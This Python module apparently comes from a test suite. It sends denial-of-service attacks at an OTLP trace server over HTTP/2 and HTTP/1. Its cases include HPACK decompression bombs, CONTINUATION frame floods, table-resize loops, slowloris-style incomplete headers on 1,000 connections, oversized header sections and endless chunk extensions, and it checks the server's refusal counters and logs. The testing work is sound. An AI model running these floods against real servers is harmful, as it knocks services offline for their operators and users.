"""Header sections that are large, many, slow or endless, or that become large when they are decoded."""
import itertools

import h2
from attack import attack, hold, push
from payloads import http1

TRACES = h2.EXPORT["traces"]
BIG_FIELD = h2.field("x-big", "b" * 3900, 0x40)  # fills the table; afterwards one byte, 0xbe, refers to it


def bombs(target, fields, first=None, count=4, port="otlp", end=True, flags=h2.END_HEADERS):
    """Opens connections that send the same block in every request; `first` is the block of the first request."""
    def feed():
        yield h2.opening() + h2.headers(1, first or fields)
        parts = [(h2.HEADERS, flags | (h2.END_STREAM if end else 0), fields)]
        for stream in itertools.count(3, 100):
            yield h2.numbered(parts, stream, 50)
    return push(target, *[lambda: (target.connect(port), feed())] * count, reconnect=True, reads=65536)


@attack(counts=("header_flood",), logs=True)
def one_table_entry_is_named_twelve_thousand_times(target):
    """12 kB on the wire become 47 MB of fields, frame after frame, on four connections."""
    return bombs(target, h2.block(TRACES) + h2.NEWEST * 12_000, h2.block(TRACES) + BIG_FIELD)


@attack(counts=("header_flood",), logs=True)
def the_same_by_twenty_connections(target):
    return bombs(target, h2.block(TRACES) + h2.NEWEST * 12_000, h2.block(TRACES) + BIG_FIELD, count=20)


@attack(counts=("header_flood",))  # the log is sampled, and other refusals come before it
def the_same_with_blocks_just_below_the_limit(target):
    """Each block is within the limit of one block; their number is the attack."""
    return bombs(target, h2.block(TRACES) + h2.NEWEST * 15, h2.block(TRACES) + BIG_FIELD, count=4)


@attack(counts=("header_flood",), logs=True)
def the_same_in_trailers(target):
    """In the trailers of a request."""
    trailers = h2.field("x", "y") + h2.NEWEST * 12_000

    def feed():
        yield h2.opening() + h2.headers(1, h2.block(TRACES) + BIG_FIELD)
        parts = [(h2.HEADERS, h2.END_HEADERS, h2.block(TRACES)), (h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, trailers)]
        for stream in itertools.count(3, 100):
            yield h2.numbered(parts, stream, 50)
    return push(target, *[lambda: (target.connect(), feed())] * 4, reconnect=True, reads=65536)


@attack(counts=("header_flood",), logs=True)
def the_same_on_streams_beyond_the_limit(target):
    """1,024 streams stay open, so every further block is refused, but must be decoded all the same."""
    return bombs(target, h2.block(TRACES) + h2.NEWEST * 2_000, h2.block(TRACES) + BIG_FIELD, end=False)


@attack(counts=("header_flood",), logs=True)
def the_same_over_many_continuations(target):
    """One block of nine frames."""
    fields = h2.block(TRACES)

    def feed():
        yield h2.opening() + h2.headers(1, fields + BIG_FIELD)
        for stream in itertools.count(3, 2):
            yield (h2.headers(stream, fields, end_headers=False)
                   + h2.frame(h2.CONTINUATION, 0, stream, h2.NEWEST * 16_000) * 7
                   + h2.frame(h2.CONTINUATION, h2.END_HEADERS, stream, h2.NEWEST * 16_000))
    return push(target, *[lambda: (target.connect(), feed())] * 4, reconnect=True, reads=65536)


@attack(counts=("header_flood",), logs=True)
def continuations_without_end(target):
    """Also empty frames, which cost their sender nothing."""
    def feed(payload):
        yield h2.opening() + h2.headers(1, h2.block(TRACES), end_headers=False)
        while True:
            yield h2.frame(h2.CONTINUATION, 0, 1, payload) * 100
    return push(target, lambda: (target.connect(), feed(h2.field("a", "b") * 2000)),
                lambda: (target.connect(), feed(b"")), reconnect=True)


@attack()
def the_table_is_resized_without_end(target):
    """Each block empties the table and fills it again."""
    fields = h2.table_size(0) + h2.table_size(4096) + h2.block(TRACES, indexing=0x40) + h2.field("x", "y" * 10, 0x40) * 90
    return bombs(target, fields, count=2)


@attack()
def many_small_fields(target):
    """A thousand fields of two bytes, each of which is copied."""
    return bombs(target, h2.block(TRACES) + h2.NEWEST * 1_900, h2.block(TRACES) + h2.field("a", "b", 0x40), count=2)


@attack()
def heads_that_never_end_over_http_2(target):
    """1,000 connections with 60 kB of an incomplete block each."""
    head = (h2.opening() + h2.headers(1, h2.block(TRACES) + h2.field("a", "a" * 15_000), end_headers=False)
            + h2.frame(h2.CONTINUATION, 0, 1, h2.field("b", "b" * 15_000)) * 3)
    return hold_with(target, "otlp", head, 1000)


@attack()
def heads_that_never_end_over_http_1(target):
    """1,000 connections with 60 kB of an incomplete header section each."""
    return hold_with(target, "http", b"POST /v1/traces HTTP/1.1\r\nHost: x\r\nX-Long: " + b"a" * 60_000, 1000)


@attack()
def heads_come_a_byte_at_a_time(target):
    """1,000 connections."""
    return hold_with(target, "http", b"POST /v1/traces HTTP/1.1\r\nHost: x\r\nX-Slow: ", 1000, poke=b"a")


def hold_with(target, port, first, count, poke=None):
    def make():
        sock = target.connect(port)
        sock.sendall(first)
        return sock
    return hold(target, [make] * count, poke)


@attack(counts=("header_too_large",), logs=True)
def heads_too_large_over_http_1(target):
    """A line of 10 MB, repeatedly; and a method, a target and a version without an end."""
    lines = (b"POST /v1/traces HTTP/1.1\r\nX: ", b"P", b"GET /", b"GET / HTTP/1.1")
    return push(target, *[(lambda line=line: (target.connect("http"), h2.repeated(line, b"a" * 100_000)))
                          for line in lines * 5], reconnect=True, reads=65536)


@attack(counts=("header_too_large",), logs=True)
def thousands_of_fields_over_http_1(target):
    """6,000 fields of two bytes in a header section of 60 kB."""
    head = b"GET /nothing HTTP/1.1\r\nHost: x\r\n" + b"a: b\r\n" * 9_000 + b"\r\n"
    return push(target, *[lambda: (target.connect("http"), h2.repeated(b"", head * 10))] * 8, reconnect=True, reads=65536)


@attack(refused_max=0.5)
def metadata_of_open_requests_piles_up(target):
    """With include_metadata a request keeps its headers: 60 kB on each of 1,000 streams whose body never arrives."""
    first = h2.block(TRACES) + h2.field("x-big", "b" * 3900, 0x40)
    fields = h2.block(TRACES) + h2.NEWEST * 15

    def feed():
        yield h2.opening() + h2.headers(1, first) + h2.numbered([(h2.HEADERS, h2.END_HEADERS, fields)], 3, 1000)
    return push(target, *[lambda: (target.connect("metadata"), feed())] * 20, reads=65536)


@attack()
def chunk_extensions_and_trailers_without_end(target):
    """In requests over HTTP/1."""
    head = http1(length="none", Transfer_Encoding="chunked")
    extension = b"1;" + b"e=f;" * 2000 + b"\r\nx\r\n"
    feeds = [(head, extension * 20), (head + b"1;", b"e" * 100_000), (head + b"0\r\n", b"a: b\r\n" * 10_000),
             (head + b"0\r\nx: ", b"a" * 100_000), (head + b"0" * 100, b"0" * 100_000)]
    return push(target, *[(lambda feed=feed: (target.connect("http"), h2.repeated(*feed))) for feed in feeds * 4],
                reconnect=True, reads=65536)
